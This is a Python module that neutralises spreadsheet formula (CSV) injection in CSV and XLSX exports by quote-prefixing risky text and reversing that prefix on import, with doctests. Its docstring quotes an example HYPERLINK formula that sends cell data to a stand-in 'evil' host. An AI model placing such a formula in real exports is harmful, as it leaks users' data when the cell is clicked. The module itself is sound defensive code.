"""Spreadsheet formula injection (OWASP "CSV injection"): text cells that a spreadsheet would run.

A spreadsheet opening a CSV or XLSX file reads a text cell that begins with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a formula: a hazard
description ``=HYPERLINK("http://evil/?"&A1, "open")`` would send the sheet's
data away when clicked. Every CSV and XLSX mineaction writes therefore
prefixes such text with a single quote, as OWASP recommends; numbers stay
numbers (a negative number stored as a number is not text, and is not
quoted). GeoPackage, GeoJSON, KML and Shapefile are not spreadsheets and
keep their values as they are.

The rule, both ways, so that text survives a round trip through an export
and an import exactly:

* **writing**: text that begins with any number of single quotes followed by
  one of those characters, or a line feed, gets one more quote in front
  (``=1+1`` → ``'=1+1``, and text the user typed as ``'=1+1`` → ``''=1+1``);
* **reading** a CSV or XLSX file: text that begins with one or more quotes
  followed by one of those characters loses its first quote. Any other quote
  is the user's own and is kept (``'quoted'`` stays ``'quoted'``).

The line feed is among them because a CSV reader may hand back a carriage
return inside a field as a line feed (GDAL's does, for every line end in a
field); the quote in front is recognised either way. So ``\rx`` comes back
from a CSV file as ``\nx``, as any line end there would, and exactly from an
XLSX file.

>>> neutralise("=HYPERLINK(\\"http://x\\")"), neutralise("-2+3"), neutralise("'=1"), neutralise("plain")
('\\'=HYPERLINK("http://x")', "'-2+3", "''=1", 'plain')
>>> [restore(neutralise(t)) for t in ("+1+1", "@SUM(A1)", "\\tx", "\\rx", "\\nx", "'=1", "'quoted'")]
['+1+1', '@SUM(A1)', '\\tx', '\\rx', '\\nx', "'=1", "'quoted'"]
"""

from __future__ import annotations

import re
from typing import TypeVar

__all__ = ["NEUTRALISED_PATTERN", "QUOTE", "UNSAFE_PATTERN", "neutralise", "restore"]

QUOTE = "'"
#: text that needs a quote in front before it goes into a spreadsheet: it begins (after any quotes) with
#: a character that makes a spreadsheet read a formula (OWASP), or with the line feed a CSV reader may
#: turn a carriage return into (RE2 and Python syntax alike, for Arrow and for :mod:`re`)
UNSAFE_PATTERN = "^'*[=+\\-@\\t\\r\\n]"
#: text read from a spreadsheet whose first character is the protective quote
NEUTRALISED_PATTERN = "^'+[=+\\-@\\t\\r\\n]"

_UNSAFE = re.compile(UNSAFE_PATTERN)
_NEUTRALISED = re.compile(NEUTRALISED_PATTERN)

T = TypeVar("T")


def neutralise(value: T) -> T | str:
    """``value`` as a spreadsheet cell that shows it and never runs it: text quoted if needed, else as is."""
    if isinstance(value, str) and _UNSAFE.match(value):
        return QUOTE + value
    return value


def restore(value: T) -> T | str:
    """The text a cell read from a spreadsheet held before :func:`neutralise` quoted it."""
    if isinstance(value, str) and _NEUTRALISED.match(value):
        return value[1:]
    return value
